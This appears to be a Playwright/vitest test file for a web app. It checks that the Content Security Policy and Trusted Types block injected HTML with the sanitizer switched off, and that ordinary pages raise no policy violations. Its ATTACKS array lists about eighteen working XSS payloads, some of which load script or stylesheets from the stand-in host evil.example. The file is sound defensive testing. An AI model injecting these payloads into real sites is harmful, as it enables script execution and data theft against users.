import { expect, test } from 'vitest';
import { recordPromiseMetric } from '../../../apps/server/src/testing/record-promise-metric';
import { useBrowser } from '../../fixtures/browser/use-browser';
import { createOrganisation } from '../../fixtures/create-organisation';
import { expectVisible } from '../../pages/expect-locator';
import { getPageProblems } from '../../pages/page-problems';

/** What the browser itself refuses, if every other line of defence were missing. */
const { open, address } = useBrowser();

/** Each would run `ran()` if it were let. */
const ATTACKS = [
  '<img src="x" onerror="ran()">',
  '<svg onload="ran()"></svg>',
  '<script>ran()</script>',
  '<script src="data:text/javascript,ran()"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<a href="javascript:ran()">link</a>',
  '<form action="javascript:ran()"><button>go</button></form>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="data:text/html,<script>parent.ran()</script>"></object>',
  '<embed src="data:text/html,<script>parent.ran()</script>">',
  '<base href="https://evil.example/">',
  '<details open ontoggle="ran()">x</details>',
  '<video><source onerror="ran()"></video>',
  '<input autofocus onfocus="ran()">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
];

test('[promise 15] foreign HTML does not run with the sanitizer switched off', async () => {
  const { email } = await (await createOrganisation(address)).join('CSR');
  const outside: string[] = [];
  const page = await open('/products', { as: email });
  // Playwright announces a request before the policy stops it: what counts is what went out.
  page.on('requestfinished', (request) => {
    if (!request.url().startsWith(address) && /^https?:/.test(request.url())) outside.push(request.url());
  });
  page.on('requestfailed', (request) => {
    if (/^https?:/.test(request.url()) && request.failure()?.errorText !== 'csp') outside.push(request.url());
  });
  await expectVisible(page.getByRole('link', { name: 'Chat' }));
  const { executions, refusals, tried } = await page.evaluate(async (attacks) => {
    // In a task of the page's own: what the debugger runs may evaluate strings.
    await new Promise((resolve) => setTimeout(resolve, 0));
    let ran = 0;
    Reflect.set(window, 'ran', () => (ran += 1));
    let refused = 0;
    const refusedBy = (work: () => unknown) => {
      try {
        work();
      } catch {
        refused += 1;
      }
    };
    // As a string, at every place that turns strings into elements or code: Trusted Types refuse.
    const place = document.createElement('div');
    document.body.append(place);
    for (const html of attacks) {
      refusedBy(() => Reflect.set(place, 'innerHTML', html));
      refusedBy(() => place.insertAdjacentHTML('beforeend', html));
      refusedBy(() => document.createRange().createContextualFragment(html));
      refusedBy(() => Object.assign(document.createElement('iframe'), { srcdoc: html }));
    }
    refusedBy(() => Reflect.construct(Function, ['ran()'])());
    refusedBy(() => setTimeout('ran()' as unknown as () => void, 0));
    refusedBy(() => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
    refusedBy(() => Object.assign(document.createElement('script'), { text: 'ran()' }));
    const tried = attacks.length * 4 + 4;
    // Markup that an attacker has injected into the page: the policy prevents its execution.
    for (const html of attacks) {
      const { head, body } = new DOMParser().parseFromString(html, 'text/html');
      const nodes = [...head.childNodes, ...body.childNodes];
      place.append(...nodes.map((node) => document.importNode(node, true)));
    }
    for (const link of place.querySelectorAll('a, button')) (link as HTMLElement).click();
    await new Promise((resolve) => setTimeout(resolve, 500)); // what loads in frames would run by then
    place.remove();
    return { executions: ran, refusals: refused, tried };
  }, ATTACKS);
  expect(executions).toBe(0);
  expect(refusals).toBe(tried);
  expect(outside).toEqual([]);
  expect(getPageProblems(page).filter((text) => text.startsWith('CSP:')).length).toBeGreaterThan(5);
  recordPromiseMetric(
    15,
    'sanitizer-off',
    `${executions} executions, ${outside.length} outside requests; ${refusals} of ${tried} strings refused, ${ATTACKS.length} elements inert`,
  );
});

test('[promise 15] pages in ordinary use break the policy nowhere', async () => {
  const paths = ['/dashboard', '/chat', '/products', '/sale', '/users', '/channel-integrations', '/profile'];
  let violations = 0;
  for (const path of paths) {
    const page = await open(path, { as: 'admin@acme.test' });
    await expectVisible(page.getByRole('main'));
    await page.waitForLoadState('networkidle');
    violations += getPageProblems(page).filter((text) => text.startsWith('CSP:')).length;
    expect(getPageProblems(page), path).toEqual([]);
  }
  for (const path of ['/', '/ForgotPassword', '/widget/demo/']) {
    const page = await open(path);
    await page.waitForLoadState('networkidle');
    violations += getPageProblems(page).filter((text) => text.startsWith('CSP:')).length;
    expect(getPageProblems(page), path).toEqual([]);
  }
  recordPromiseMetric(15, 'violations', `${violations} violations on ${paths.length + 3} pages`);
});
